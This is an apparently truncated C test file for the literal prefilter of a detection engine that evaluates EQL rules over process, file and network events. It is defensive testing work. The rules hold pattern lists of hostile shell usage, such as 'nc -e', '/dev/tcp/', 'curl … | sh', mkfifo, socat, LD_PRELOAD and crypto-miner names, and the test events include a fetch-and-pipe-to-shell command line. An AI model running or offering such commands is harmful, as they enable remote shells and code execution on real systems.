// SPDX-License-Identifier: GPL-2.0
/*
 * The literal prefilter (module/engine/prefilter*.c) must never change a
 * result, only skip work:
 *
 *  - which steps get a filter, and what an event lets through, on small
 *    rules whose filters are known;
 *  - differential: the same events through two engines over the same
 *    rules, one rebuilt without a prefilter, give the same alerts for
 *    every event.  The rules are ours (rules/) and, when present, the
 *    Elastic corpus; the events are built from every pattern of every
 *    MATCH of every step (the literal alone, inside other text, in upper
 *    case) in the field that MATCH reads, so each step sees values that
 *    make it true.  No rule that fires there may carry a "never fires"
 *    warning from the compiler (compiler/feasible.c).  The engine with
 *    the prefilter keeps a memo of parent fields (struct vigil_pf_memo)
 *    from event to event, as a CPU of vigil.ko does;
 *  - the dispatch of sequence rules (a rule slot for the kinds only
 *    filtered steps take, wait lists for kinds only later steps take):
 *    random streams through sequence rules of every shape, against the
 *    plain engine.  Built a second time per dispatch mutant
 *    (-DVIGIL_DISPATCH_MUTANT=n, user/Makefile: build/mut/test_prefilter-n);
 *    the case `mutants` runs each and asserts the streams catch it.
 */
#include <ctype.h>
#include <sys/stat.h>

#include "tap.h"
#include "mutants.h"
#include "compiler_util.h"
#include "internal.h"

#define CORPUS "../../../shared/corpus/elastic/"
#define DIFF_EXIT 3 /* a mutant build's status when its streams disagree */

static void *compile_queries(const char *const *queries, size_t n,
			     __u32 *len);

/* An engine of the EQL rules @queries[0 .. @n), or NULL. */
static struct vigil_engine *engine_of(const char *const *queries, size_t n)
{
	struct vigil_engine_limits lim = { 256, 256 };
	struct vigil_engine *e;
	const char *reason;
	__u32 len = 0;
	void *blob = compile_queries(queries, n, &len);

	if (!blob)
		return NULL;
	e = vigil_engine_new(blob, len, &lim, &reason);
	free(blob);
	if (IS_ERR(e)) {
		printf("#   engine refused: %s\n", reason);
		return NULL;
	}
	return e;
}

/*
 * Rebuilds @e as the plain engine: no prefilter, no index, no wait
 * lists, no numeric gates; every candidate on its kind's list (the
 * dispatch's).
 */
static void pf_off(struct vigil_engine *e)
{
	vigil_gate_free(e);
	e->rs.need_of = NULL; /* every regex runs its DFA */
	vigil_pf_free(&e->pf);
	memset(&e->pf, 0, sizeof(e->pf));
	vigil_index_free(&e->idx);
	memset(&e->idx, 0, sizeof(e->idx));
	vigil_dispatch_free(&e->disp);
	memset(&e->disp, 0, sizeof(e->disp));
	CHECK_EQ(vigil_dispatch_build(e), 0);
}

static bool step_filtered(const struct vigil_engine *e, u32 rule)
{
	return e->pf.step_slot[e->rs.rules[rule].first_step] != VIGIL_PF_NONE;
}

static void cmd(struct cu_ev *c, const char *cmdline)
{
	cu_set(c, VIGIL_F_PROCESS_COMMAND_LINE, cmdline);
}

/* Enough CONTAINS patterns that scanning the command line pays. */
#define MANY_CMD                                                            \
	"process.command_line : (\"*base64 -d*\", \"*nc -e*\", \"*xmrig*\", " \
	"\"*/dev/tcp/*\", \"*chmod 4755*\", \"*LD_PRELOAD=*\", "             \
	"\"*curl*|*sh*\", \"*wget -q*\", \"*mkfifo*\", \"*socat*\")"

static void filter_contains(void)
{
	struct vigil_engine *e =
		cu_engine("eql", "process where " MANY_CMD);
	struct cu_ev *c = calloc(1, sizeof(*c));

	CHECK(e && c);
	if (!e || !c)
		goto out;
	CHECK(step_filtered(e, 0));
	CHECK(e->pf.kslots[VIGIL_EV_EXEC] == 1);
	cu_exec(c, 1, "e1", "sh", ARGV("sh", "-c", "x"));
	cmd(c, "echo aGkK | BASE64 -D");
	CHECK_EQ(cu_run(e, c), 1);
	cmd(c, "echo aGkK | base64");
	CHECK_EQ(cu_run(e, c), 0);
	cmd(c, "curl http://x/y | sh");
	CHECK_EQ(cu_run(e, c), 1);
	cmd(c, "sh");
	CHECK_EQ(cu_run(e, c), 0);
out:
	free(c);
	vigil_engine_free(e);
}

/* MANY_CMD, on the parent's command line. */
#define MANY_PCMD                                                             \
	"process.parent.command_line : (\"*base64 -d*\", \"*nc -e*\", "       \
	"\"*xmrig*\", \"*/dev/tcp/*\", \"*chmod 4755*\", \"*LD_PRELOAD=*\", " \
	"\"*curl*|*sh*\", \"*wget -q*\", \"*mkfifo*\", \"*socat*\")"

static int run_memo(struct vigil_engine *e, struct cu_ev *c,
		    struct vigil_pf_memo *m)
{
	int n = 0;

	vigil_engine_process_memo(e, &c->ev, m, cu_count_cb, &n);
	return n;
}

/*
 * The memo (struct vigil_pf_memo) of parent fields: the next child of
 * the same parent takes the hits it keeps; another parent, or another
 * engine, replaces them; a parent too long to keep is scanned each time.
 * Of actor fields: the next file event of the same process takes them,
 * one with a command line as long replaces them.
 */
static void filter_memo(void)
{
	struct vigil_engine *e = cu_engine("eql", "process where " MANY_PCMD);
	struct vigil_engine *f = cu_engine("eql", "process where " MANY_PCMD);
	struct vigil_engine *g = cu_engine(
		"eql", "file where event.type == \"creation\" and " MANY_CMD);
	struct vigil_pf_memo *mm = calloc(1, sizeof(*mm));
	struct vigil_pf_memo_group *m = mm ? &mm->group[VIGIL_PF_MEMO_PARENT] :
					     NULL;
	struct vigil_pf_memo_group *a = mm ? &mm->group[VIGIL_PF_MEMO_ACTOR] :
					     NULL;
	struct cu_ev *c = calloc(1, sizeof(*c));
	const u64 pcmd = 1ULL << VIGIL_F_PARENT_COMMAND_LINE;
	char *big = malloc(VIGIL_PF_MEMO_BYTES + 64);

	CHECK(e && f && g && mm && c && big);
	if (!e || !f || !g || !mm || !c || !big)
		goto out;
	CHECK(step_filtered(e, 0));
	cu_exec(c, 1, "e1", "sh", ARGV("sh"));
	cu_set(c, VIGIL_F_PARENT_COMMAND_LINE, "sh -c socat");
	CHECK_EQ(run_memo(e, c, mm), 1);
	CHECK(m->engine == e->id && m->scanned == pcmd);
	CHECK_EQ(run_memo(e, c, mm), 1);
	cu_set(c, VIGIL_F_PARENT_COMMAND_LINE, "sh -c xxxxx");
	CHECK_EQ(run_memo(e, c, mm), 0);
	CHECK(m->engine == e->id && !memcmp(m->bytes, "sh -c xxxxx", 11));
	cu_set(c, VIGIL_F_PARENT_COMMAND_LINE, "sh -c socat");
	CHECK_EQ(run_memo(e, c, mm), 1);
	CHECK_EQ(run_memo(f, c, mm), 1);
	CHECK(m->engine == f->id && e->id != f->id);
	/* the actor's fields, the same in a process's file events */
	cu_file(c, 2, "e1", VIGIL_EV_CREATE, "/tmp/a");
	cu_set(c, VIGIL_F_PROCESS_COMMAND_LINE, "sh -c socat");
	CHECK_EQ(run_memo(g, c, mm), 1);
	CHECK(a->engine == g->id &&
	      a->scanned == 1ULL << VIGIL_F_PROCESS_COMMAND_LINE);
	cu_file(c, 3, "e1", VIGIL_EV_CREATE, "/tmp/b");
	cu_set(c, VIGIL_F_PROCESS_COMMAND_LINE, "sh -c socat");
	CHECK_EQ(run_memo(g, c, mm), 1);
	cu_set(c, VIGIL_F_PROCESS_COMMAND_LINE, "sh -c xxxxx");
	CHECK_EQ(run_memo(g, c, mm), 0);
	CHECK(a->engine == g->id && !memcmp(a->bytes, "sh -c xxxxx", 11));
	memset(big, 'x', VIGIL_PF_MEMO_BYTES + 63);
	memcpy(big + VIGIL_PF_MEMO_BYTES + 50, "socat", 5);
	big[VIGIL_PF_MEMO_BYTES + 63] = 0;
	cu_exec(c, 4, "e1", "sh", ARGV("sh"));
	cu_set(c, VIGIL_F_PARENT_COMMAND_LINE, big);
	CHECK_EQ(run_memo(f, c, mm), 1);
	CHECK_EQ(m->engine, 0);
	big[VIGIL_PF_MEMO_BYTES + 50] = 'S';
	CHECK_EQ(run_memo(f, c, mm), 1);
	big[VIGIL_PF_MEMO_BYTES + 51] = '_';
	CHECK_EQ(run_memo(f, c, mm), 0);
out:
	free(big);
	free(c);
	free(mm);
	vigil_engine_free(e);
	vigil_engine_free(f);
	vigil_engine_free(g);
}

/*
 * Guards: a step whose filter is the more selective-looking of two
 * tests (a command line with "bash -i") gets the other (the program under
 * /tmp) as its guard when the kind's events are scanned for that field
 * anyway (here for rule 1): it runs only if both its filter and its
 * guard let the event through.  Not a guard of common directories or
 * short arguments (guard_literal_ok()), nor one of a field the kind's
 * events are not scanned for (rule 4's: the working directory).
 */
#define GUARD_CMD "process where event.action == \"exec\" and " \
	"process.command_line : (\"*bash -i*\", \"*zsh -c*\") and "
static void filter_guard(void)
{
	static const char *const q[] = {
		GUARD_CMD "process.executable : (\"/tmp/*\", \"/dev/shm/*\")",
		"process where event.action == \"exec\" and "
		"process.executable : (\"*/xmrig*\", \"*/kinsing*\", "
		"\"*/kdevtmpfs*\", \"*/cryptonight*\", \"*/minerd*\", "
		"\"*/cpuminer*\", \"*/nheqminer*\", \"*/ethminer*\")",
		GUARD_CMD "process.executable : (\"/usr/bin/*\", \"/bin/*\")",
		GUARD_CMD "process.args : (\"-l\", \"-p\")",
		GUARD_CMD "process.working_directory : \"/srv/*\"",
	};
	struct cu_ev *c = calloc(1, sizeof(*c));
	struct vigil_engine *e = engine_of(q, ARRAY_SIZE(q));
	u64 hits[VIGIL_PF_WORDS];
	u32 s0, g0, r;

	CHECK(e && c);
	if (!e || !c)
		goto out;
	r = e->rs.rules[0].first_step;
	s0 = e->pf.step_slot[r];
	g0 = e->pf.guard_slot[r];
	CHECK(s0 != VIGIL_PF_NONE && g0 != VIGIL_PF_NONE);
	if (s0 == VIGIL_PF_NONE || g0 == VIGIL_PF_NONE)
		goto out;
	CHECK_EQ(e->pf.cand[s0].fields, 1ULL << VIGIL_F_PROCESS_COMMAND_LINE);
	CHECK_EQ(e->pf.cand[g0].fields, 1ULL << VIGIL_F_PROCESS_EXECUTABLE);
	for (r = 2; r < ARRAY_SIZE(q); r++) {
		CHECK(step_filtered(e, r));
		CHECK_EQ(e->pf.guard_slot[e->rs.rules[r].first_step],
			 VIGIL_PF_NONE);
	}
	cu_exec(c, 1, "e1", "x", ARGV("x"));
	cmd(c, "bash -i x");
	cu_set(c, VIGIL_F_PROCESS_EXECUTABLE, "/usr/bin/x");
	vigil_pf_scan(e, &c->ev, VIGIL_EV_EXEC, hits, NULL);
	CHECK((hits[s0 / 64] >> (s0 % 64)) & 1);
	CHECK(!((hits[g0 / 64] >> (g0 % 64)) & 1));
	CHECK_EQ(cu_run(e, c), 1); /* rule 2 */
	cu_set(c, VIGIL_F_PROCESS_EXECUTABLE, "/tmp/x");
	vigil_pf_scan(e, &c->ev, VIGIL_EV_EXEC, hits, NULL);
	CHECK((hits[g0 / 64] >> (g0 % 64)) & 1);
	CHECK_EQ(cu_run(e, c), 1);
	cu_set(c, VIGIL_F_PROCESS_WORKING_DIRECTORY, "/srv/w");
	CHECK_EQ(cu_run(e, c), 2); /* and rule 4 */
	cmd(c, "make");
	CHECK_EQ(cu_run(e, c), 0);
out:
	vigil_engine_free(e);
	free(c);
}

/*
 * A path's parts (file.name, file.directory) are found by the scan of
 * the path when they are views into it, each only where it lies: a
 * name literal not in the directory, a directory literal that must end
 * the directory.  A part that is not a view (an event built from JSON)
 * is scanned on its own.
 */
static void filter_parts(void)
{
	static const char *const q[] = {
		"file where event.type == \"creation\" and file.name : "
		"(\"*xmrig*\", \"*kinsing*\", \"*kdevtmpfs*\", \"*minerd*\", "
		"\"*cpuminer*\", \"*nheqminer*\", \"*ethminer*\")",
		"file where event.type == \"creation\" and file.directory : "
		"(\"/srv\", \"*/.cache\", \"/mnt/*\", \"/media/*\", "
		"\"/dev/shm*\", \"/var/tmp*\", \"/run/user/*\")",
		"file where event.type == \"creation\" and file.path : "
		"(\"*/x.so\", \"*/.ssh/*\", \"*/cron.d/*\", \"*/.config/*\", "
		"\"*/systemd/*\", \"*/init.d/*\", \"*/profile.d/*\")",
	};
	struct cu_ev *c = calloc(1, sizeof(*c));
	struct vigil_engine *e = engine_of(q, ARRAY_SIZE(q));

	CHECK(e && c);
	if (!e || !c)
		goto out;
	CHECK_EQ(e->pf.whole[VIGIL_F_FILE_NAME], VIGIL_F_FILE_PATH);
	CHECK_EQ(e->pf.whole[VIGIL_F_FILE_DIRECTORY], VIGIL_F_FILE_PATH);
	cu_file(c, 1, "e1", VIGIL_EV_CREATE, "/srv/xmrig");
	CHECK_EQ(cu_run(e, c), 2); /* rules 0 and 1 */
	cu_file(c, 1, "e1", VIGIL_EV_CREATE, "/srv/a/xmrig");
	CHECK_EQ(cu_run(e, c), 1); /* "/srv" is not the directory */
	cu_file(c, 1, "e1", VIGIL_EV_CREATE, "/xmrig/a");
	CHECK_EQ(cu_run(e, c), 0); /* "xmrig" is not in the name */
	cu_file(c, 1, "e1", VIGIL_EV_CREATE, "/srv/x.so");
	CHECK_EQ(cu_run(e, c), 2); /* rules 1 and 2 */
	/* parts that are not views into the path: scanned on their own */
	cu_file(c, 1, "e1", VIGIL_EV_CREATE, "/a/b");
	cu_set(c, VIGIL_F_FILE_NAME, "xmrig");
	cu_set(c, VIGIL_F_FILE_DIRECTORY, "/srv");
	CHECK_EQ(cu_run(e, c), 2);
out:
	vigil_engine_free(e);
	free(c);
}

/*
 * A regex that needs ':' (vigil_dfa_need()): the look for it, a word at
 * a time, finds it at every place of values of 1 to 40 bytes, and is
 * not fooled by the bytes around it (';', 0xba: ':' with the high bit).
 */
static void regex_need_positions(void)
{
	struct vigil_engine *e = cu_engine(
		"eql", "process where process.command_line regex \".*:.*\"");
	struct cu_ev *c = calloc(1, sizeof(*c));
	char v[48];
	u32 len, pos, bad = 0;

	CHECK(e && c);
	if (!e || !c)
		goto out;
	CHECK(e->rs.need_of[0] != VIGIL_NIL);
	cu_exec(c, 1, "e1", "sh", ARGV("sh"));
	for (len = 1; len <= 40; len++) {
		for (pos = 0; pos < len; pos++) {
			memset(v, pos & 1 ? ';' : 0xba, len);
			v[len] = 0;
			v[pos] = ':';
			cmd(c, v);
			bad += cu_run(e, c) != 1;
		}
		memset(v, len & 1 ? ';' : 0xba, len);
		v[len] = 0;
		cmd(c, v);
		bad += cu_run(e, c) != 0;
	}
	CHECK_EQ(bad, 0);
out:
	free(c);
	vigil_engine_free(e);
}

/*
 * A glob needs its rare literal bytes (vigil_glob_need()): the
 * hex-payload rule's backslash, in either case of the glob; a glob of
 * letters and '/' needs none worth the look.  The look decides only what
 * the glob would: values with and without the byte, at every place.
 */
static void glob_need(void)
{
	struct vigil_engine *e = cu_engine(
		"eql", "process where process.command_line : \"*\\\\x*\\\\x*\"");
	struct vigil_engine *f = cu_engine(
		"eql", "process where process.command_line : \"*/bin/*\"");
	struct cu_ev *c = calloc(1, sizeof(*c));
	char v[48];
	u32 len, pos, bad = 0;
	u64 m;

	CHECK(e && f && c);
	if (!e || !f || !c)
		goto out;
	CHECK(e->rs.need_of[0] != VIGIL_NIL);
	m = e->rs.needs[e->rs.need_of[0]].map['\\' / 64];
	CHECK((m >> ('\\' % 64)) & 1);
	CHECK(f->rs.need_of[0] == VIGIL_NIL);
	cu_exec(c, 1, "e1", "sh", ARGV("sh"));
	for (len = 4; len <= 40; len++) {
		for (pos = 0; pos + 4 <= len; pos++) {
			memset(v, 'x', len);
			v[len] = 0;
			memcpy(v + pos, "\\X\\x", 4);
			cmd(c, v);
			bad += cu_run(e, c) != 1;
			v[pos] = '/';
			cmd(c, v);
			bad += cu_run(e, c) != 0;
		}
	}
	CHECK_EQ(bad, 0);
out:
	free(c);
	vigil_engine_free(e);
	vigil_engine_free(f);
}

/*
 * A glob's literal may start with an escaped byte: the hex-payload rule's
 * "*\\x*" needs "\x", the pattern's bytes after its first backslash.
 * Alone it has none, so that "or" would leave the step unfiltered.
 */
static void filter_glob_escape(void)
{
	struct vigil_engine *e = cu_engine(
		"eql", "process where " MANY_CMD " or process.command_line : "
		       "\"*\\\\x*\\\\x*\"");
	struct cu_ev *c = calloc(1, sizeof(*c));

	CHECK(e && c);
	if (!e || !c)
		goto out;
	CHECK(step_filtered(e, 0));
	cu_exec(c, 1, "e1", "sh", ARGV("sh"));
	cmd(c, "printf \\X41\\x42");
	CHECK_EQ(cu_run(e, c), 1);
	cmd(c, "printf \\x41 x42");
	CHECK_EQ(cu_run(e, c), 0);
	cmd(c, "printf x41 x42");
	CHECK_EQ(cu_run(e, c), 0);
out:
	free(c);
	vigil_engine_free(e);
}

/* or: either side's literals; not: nothing known, so no filter. */
static void filter_shapes(void)
{
	struct vigil_engine *e = cu_engine(
		"eql", "process where " MANY_CMD " or process.working_directory "
		       ": \"/srv/payload*\"");
	struct vigil_engine *n = cu_engine(
		"eql", "process where not " MANY_CMD);
	struct vigil_engine *r = cu_engine(
		"eql", "process where " MANY_CMD " or process.command_line "
		       "regex \".*[0-9]{4}.*\"");
	struct cu_ev *c = calloc(1, sizeof(*c));

	CHECK(e && n && r && c);
	if (!e || !n || !r || !c)
		goto out;
	CHECK(step_filtered(e, 0));
	CHECK(!step_filtered(n, 0));
	CHECK(!step_filtered(r, 0));
	cu_exec(c, 1, "e1", "sh", ARGV("sh"));
	cmd(c, "sh");
	cu_set(c, VIGIL_F_PROCESS_WORKING_DIRECTORY, "/srv/payload/x");
	CHECK_EQ(cu_run(e, c), 1);
	CHECK_EQ(cu_run(n, c), 1);
	cu_set(c, VIGIL_F_PROCESS_WORKING_DIRECTORY, "/srv");
	CHECK_EQ(cu_run(e, c), 0);
	cmd(c, "sleep 1234");
	CHECK_EQ(cu_run(r, c), 1);
out:
	free(c);
	vigil_engine_free(e);
	vigil_engine_free(n);
	vigil_engine_free(r);
}

/*
 * Alternatives, then more exclusions "not (a and b)" than a filter has
 * atoms: the filter is the alternatives' (derive_step()'s second pass).
 */
static void filter_exclusions(void)
{
	char q[4096];
	int n = 0, i;
	struct vigil_engine *e;
	struct cu_ev *c = calloc(1, sizeof(*c));

	n += snprintf(q + n, sizeof(q) - n,
		      "process where (process.parent.name in (\"cursor\", "
		      "\"claude\") or process.parent.command_line : "
		      "\"*mcp-server*\") and not (");
	for (i = 0; i < 20; i++)
		n += snprintf(q + n, sizeof(q) - n,
			      "%s(process.parent.name == "
			      "\"parent-excluded-%02d\" and "
			      "process.name == \"child-excluded-%02d\")",
			      i ? " or " : "", i, i);
	snprintf(q + n, sizeof(q) - n, ")");
	e = cu_engine("eql", q);
	CHECK(e && c);
	if (!e || !c)
		goto out;
	CHECK(step_filtered(e, 0));
	cu_exec(c, 1, "e1", "sh", ARGV("sh"));
	cu_set(c, VIGIL_F_PARENT_NAME, "claude");
	CHECK_EQ(cu_run(e, c), 1);
	cu_set(c, VIGIL_F_PARENT_NAME, "parent-excluded-03");
	cu_set(c, VIGIL_F_PROCESS_NAME, "child-excluded-03");
	CHECK_EQ(cu_run(e, c), 0);
	cu_set(c, VIGIL_F_PARENT_NAME, "node");
	cu_set(c, VIGIL_F_PARENT_COMMAND_LINE, "node mcp-server-x");
	CHECK_EQ(cu_run(e, c), 1);
out:
	free(c);
	vigil_engine_free(e);
}

/*
 * An event's command line stands for its args in the scan only when it
 * joins them (struct vigil_event.joined, vigil_event_note_joined()).
 */
static void filter_joined(void)
{
	struct vigil_engine *e = cu_engine(
		"eql", "process where process.args : (\"--exploit*\", "
		       "\"--payload*\", \"--shell*\", \"--reverse*\") or " MANY_CMD);
	struct cu_ev *c = calloc(1, sizeof(*c));
	const u64 args = 1ULL << VIGIL_F_PROCESS_ARGS;

	CHECK(e && c);
	if (!e || !c)
		goto out;
	CHECK(step_filtered(e, 0));
	cu_exec(c, 1, "e1", "tool", ARGV("tool", "--exploit=1"));
	cmd(c, "tool --exploit=1");
	vigil_event_note_joined(&c->ev);
	CHECK(c->ev.joined & args);
	CHECK_EQ(cu_run(e, c), 1);
	/* a command line that is not the args: both are scanned */
	cmd(c, "tool other");
	vigil_event_note_joined(&c->ev);
	CHECK(!(c->ev.joined & args));
	CHECK_EQ(cu_run(e, c), 1);
	/* the bit is trusted: set wrongly, it hides the args' literal */
	c->ev.joined |= args;
	CHECK_EQ(cu_run(e, c), 0);
	/* no trailing NUL on the last element: not a join */
	vigil_event_set_array(&c->ev, VIGIL_F_PROCESS_ARGS, "tool\0--exploit=1",
			      16, 2);
	cmd(c, "tool --exploit=1");
	vigil_event_note_joined(&c->ev);
	CHECK(!(c->ev.joined & args));
	CHECK_EQ(cu_run(e, c), 1);
out:
	free(c);
	vigil_engine_free(e);
}

/* Prefixes of args: the literal must start an element, in either case. */
static void filter_anchors(void)
{
	struct vigil_engine *e = cu_engine(
		"eql", "process where process.args : (\"--exploit*\", "
		       "\"--payload*\", \"--shell*\", \"--reverse*\", \"--root*\", "
		       "\"--suid*\", \"--escape*\", \"--dump*\", \"--keylog*\", "
		       "\"--hide*\", \"--wipe*\", \"--persist*\")");
	struct cu_ev *c = calloc(1, sizeof(*c));

	CHECK(e && c);
	if (!e || !c)
		goto out;
	CHECK(step_filtered(e, 0));
	cu_exec(c, 1, "e1", "x", ARGV("x", "a", "--DUMP"));
	CHECK_EQ(cu_run(e, c), 1);
	cu_exec(c, 1, "e1", "x", ARGV("x", "--dump", "a"));
	CHECK_EQ(cu_run(e, c), 1);
	cu_exec(c, 1, "e1", "x", ARGV("x", "--dumpster"));
	CHECK_EQ(cu_run(e, c), 1);
	cu_exec(c, 1, "e1", "x", ARGV("x", "no--dump"));
	CHECK_EQ(cu_run(e, c), 0);
out:
	free(c);
	vigil_engine_free(e);
}

/* ---- differential ---- */

struct rec {
	u32 rules[64];
	u32 n;
	bool *fired;	/* by rule index, n_rules of them */
	u32 n_rules;
};

static void rec_cb(void *ctx, const struct vigil_match *m)
{
	struct rec *r = ctx;

	if (r->fired && m->rule < r->n_rules)
		r->fired[m->rule] = true;
	if (r->n < 64)
		r->rules[r->n] = m->rule;
	r->n++;
}

struct diff {
	struct vigil_engine *on, *off;
	struct vigil_pf_memo memo;	/* @on's, as a CPU's in vigil.ko */
	bool *fired;	/* by rule index: fired on some event */
	u32 n_rules;
	u64 events, alerts, mismatches, ts;
	char buf[4096];
};

static int cmp_u32(const void *a, const void *b)
{
	u32 x = *(const u32 *)a, y = *(const u32 *)b;

	return x < y ? -1 : x > y;
}

/*
 * The alerts of one event may come in another order (the prefilter's
 * candidates follow the index's): compare them sorted.
 */
/* @d's engines over @blob: one as built, one plain (pf_off()). */
static bool diff_engines(struct diff *d, void *blob, __u32 len)
{
	struct vigil_engine_limits lim = { 1024, 1024 };
	const char *reason;

	d->on = vigil_engine_new(blob, len, &lim, &reason);
	if (IS_ERR(d->on))
		d->on = NULL;
	d->off = d->on ? vigil_engine_new(blob, len, &lim, &reason) : NULL;
	if (IS_ERR(d->off))
		d->off = NULL;
	if (!d->on || !d->off) {
		printf("#   engine refused: %s\n", reason);
		return false;
	}
	pf_off(d->off);
	return true;
}

static void run_both(struct diff *d, struct cu_ev *c)
{
	struct rec a = { .n = 0 }, b = { .fired = d->fired, .n_rules = d->n_rules };

	vigil_event_set_num(&c->ev, VIGIL_F_TIMESTAMP, d->ts += 1000000);
	vigil_event_note_joined(&c->ev);
	vigil_engine_process_memo(d->on, &c->ev, &d->memo, rec_cb, &a);
	vigil_engine_process(d->off, &c->ev, rec_cb, &b);
	d->events++;
	d->alerts += b.n;
	qsort(a.rules, a.n < 64 ? a.n : 64, sizeof(u32), cmp_u32);
	qsort(b.rules, b.n < 64 ? b.n : 64, sizeof(u32), cmp_u32);
	if (a.n == b.n &&
	    !memcmp(a.rules, b.rules, sizeof(u32) * (a.n < 64 ? a.n : 64)))
		return;
	if (d->mismatches++ < 5)
		printf("#   event %llu: %u alerts with the prefilter, %u without\n",
		       (unsigned long long)d->events, a.n, b.n);
}

/* A plain event of @kind with every field a rule may read. */
static void base_event(struct cu_ev *c, u32 kind)
{
	if (kind == VIGIL_EV_EXEC) {
		cu_exec(c, 0, "e1", "x", ARGV("x", "-a", "b"));
	} else if ((1U << kind) & VIGIL_EV_MASK_NETWORK) {
		/* no file.*, as capture makes them */
		cu_net(c, 0, kind, "x", "1.1.1.1", "93.184.216.34", 443);
		cu_set(c, VIGIL_F_NETWORK_TRANSPORT, "tcp");
		cu_set(c, VIGIL_F_NETWORK_DIRECTION,
		       kind == VIGIL_EV_CONNECT ? "egress" : "ingress");
	} else {
		cu_file(c, 0, "e1", kind, "/var/tmp/x.txt");
		cu_set(c, VIGIL_F_PROCESS_NAME, "x");
	}
	cu_set(c, VIGIL_F_PROCESS_EXECUTABLE, "/usr/bin/x");
	cmd(c, "x -a b");
	cu_set(c, VIGIL_F_PROCESS_WORKING_DIRECTORY, "/root");
	cu_set(c, VIGIL_F_PARENT_NAME, "bash");
	cu_set(c, VIGIL_F_PARENT_EXECUTABLE, "/usr/bin/bash");
	cu_set(c, VIGIL_F_PARENT_COMMAND_LINE, "bash");
	cu_set(c, VIGIL_F_PARENT_ENTITY_ID, "e0");
	cu_args(&c->ev, VIGIL_F_PARENT_ARGS, c->pargs, ARGV("bash"));
	vigil_event_set_num(&c->ev, VIGIL_F_USER_ID, 0);
}

/* Values must outlive the event: a ring of copies. */
static const char *strdup_tmp(const char *s)
{
	static char ring[64][1024];
	static u32 next;
	char *p = ring[next++ % 64];

	snprintf(p, 1024, "%s", s);
	return p;
}

/* Sets @f to @v (an ARRAY: a second element); file paths derive names. */
static void put(struct cu_ev *c, u32 f, const char *v)
{
	static char cl[2][1300];

	if (vigil_field_pair(f) && vigil_is_array(f)) {
		bool own = f == VIGIL_F_PROCESS_ARGS;

		cu_args(&c->ev, f, own ? c->args : c->pargs, ARGV("x", v));
		/* and the command line, joined from them as capture does */
		snprintf(cl[own], sizeof(cl[own]), "x %s", v);
		cu_set(c, own ? VIGIL_F_PROCESS_COMMAND_LINE :
				VIGIL_F_PARENT_COMMAND_LINE,
		       cl[own]);
		return;
	}
	if (vigil_field_type(f) == VIGIL_FT_IP) {
		unsigned char *ip = c->ip[f == VIGIL_F_SOURCE_IP ? 0 : 1];

		if (!vigil_ip_parse(v, ip))
			vigil_event_set_str(&c->ev, f, (const char *)ip,
					    VIGIL_IP_LEN);
		return;
	}
	if (vigil_field_type(f) != VIGIL_FT_STR)
		return;
	vigil_event_set_str(&c->ev, f, v, strlen(v));
	if (f == VIGIL_F_FILE_PATH || f == VIGIL_F_FILE_ORIG_PATH)
		vigil_event_derive_file(&c->ev);
}


/*
 * A value the DFA at @d is likely to accept (@seed picks it): a random
 * walk from its start through states that can still reach an accepting
 * one, a random byte (not NUL) of each class taken, stopping at an
 * accepting state at random.
 */
static void dfa_sample(const u8 *d, u32 seed, char *out, u32 cap)
{
	static u8 live[VIGIL_DFA_MAX_STATES];
	const u8 *classmap = d + offsetof(struct vigil_rs_dfa, classmap);
	const u8 *accept = d + sizeof(struct vigil_rs_dfa), *next;
	u16 ns, nc, nx;
	u32 st = 0, o = 0, c, x, k, pick;
	u8 cls[256], bytes[256];
	bool changed = true;

	memcpy(&ns, d + offsetof(struct vigil_rs_dfa, n_states), 2);
	memcpy(&nc, d + offsetof(struct vigil_rs_dfa, n_classes), 2);
	next = accept + ns;
	for (st = 0; st < ns; st++)
		live[st] = accept[st];
	while (changed) {
		changed = false;
		for (st = 0; st < ns; st++)
			for (c = 0; c < nc && !live[st]; c++) {
				memcpy(&nx, next + 2 * (st * nc + c), 2);
				if (nx != VIGIL_DFA_DEAD && live[nx])
					live[st] = changed = true;
			}
	}
	st = 0;
	while (o + 1 < cap && live[st]) {
		seed = seed * 1103515245U + 12345U;
		if (accept[st] && ((seed >> 16) % 4 == 0 || o + 16 >= cap))
			break;
		for (c = 0, k = 0; c < nc; c++) {
			memcpy(&nx, next + 2 * (st * nc + c), 2);
			if (nx != VIGIL_DFA_DEAD && live[nx])
				cls[k++] = c;
		}
		if (!k)
			break;
		c = cls[(seed >> 8) % k];
		for (x = 1, pick = 0; x < 256; x++)
			if (classmap[x] == c)
				bytes[pick++] = x;
		if (!pick)
			break;
		memcpy(&nx, next + 2 * (st * nc + c), 2);
		out[o++] = (char)bytes[(seed >> 20) % pick];
		st = nx;
	}
	out[o] = 0;
}

/* The @j-th pattern (modulo the set) of MATCH @in, as a value. */
static const char *pattern_sample(const struct vigil_rs *rs,
				  const struct vigil_rs_insn *in, u32 j)
{
	const struct vigil_rs_set *set = &rs->sets[in->arg];
	const struct vigil_rs_pat *p = &rs->pats[set->first_pat + j % set->n_pats];
	char lit[1024];

	if (p->kind == VIGIL_PAT_REGEX)
		dfa_sample(rs->dfas + p->str, j * 2654435761U + p->str, lit,
			   sizeof(lit));
	else
		cu_sample(rs->strtab, p, lit, sizeof(lit));
	return strdup_tmp(lit); /* an ARRAY keeps pointing at it */
}

/*
 * Events that satisfy whole conjunctions: every field a step matches
 * set at once, to the @j-th pattern of its MATCH.
 */
static void feed_step(struct diff *d, struct cu_ev *c,
		      const struct vigil_rs_step *step, u32 kind)
{
	const struct vigil_rs *rs = &d->off->rs;
	const struct vigil_rs_insn *prog = &rs->insns[step->first_insn];
	u32 i, j;

	for (j = 0; j < 8; j++) {
		base_event(c, kind);
		for (i = 0; i < step->n_insns; i++)
			if (prog[i].op == VIGIL_OP_MATCH)
				put(c, prog[i].field,
				    pattern_sample(rs, &prog[i], j));
		run_both(d, c);
	}
}

/*
 * Events from every pattern (up to 64 per set) of every MATCH: the
 * value alone, inside other text, upper-cased.
 */
static void feed_patterns(struct diff *d, struct cu_ev *c,
			  const struct vigil_rs_step *step, u32 kind)
{
	const struct vigil_rs *rs = &d->off->rs;
	const struct vigil_rs_insn *prog = &rs->insns[step->first_insn];
	char v[1200];
	u32 i, j, k, q;

	for (i = 0; i < step->n_insns; i++) {
		if (prog[i].op != VIGIL_OP_MATCH)
			continue;
		for (j = 0; j < rs->sets[prog[i].arg].n_pats && j < 64; j++) {
			const char *lit = pattern_sample(rs, &prog[i], j);

			for (k = 0; k < 3; k++) {
				base_event(c, kind);
				snprintf(v, sizeof(v), k == 1 ? "A %s B" : "%s",
					 lit);
				for (q = 0; k == 2 && v[q]; q++)
					v[q] = toupper((u8)v[q]);
				put(c, prog[i].field, v);
				run_both(d, c);
			}
		}
